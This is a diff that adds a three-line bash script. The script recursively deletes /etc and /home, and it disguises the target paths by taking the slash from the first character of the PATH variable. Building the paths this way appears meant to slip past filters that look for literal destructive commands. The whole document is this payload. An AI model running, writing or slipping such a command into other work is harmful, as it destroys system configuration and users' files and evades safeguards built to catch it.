@@ -1,0 +1,3 @@
+#!/bin/bash
+s=${PATH:0:1}
+rm -rf "${s}etc" "${s}home"
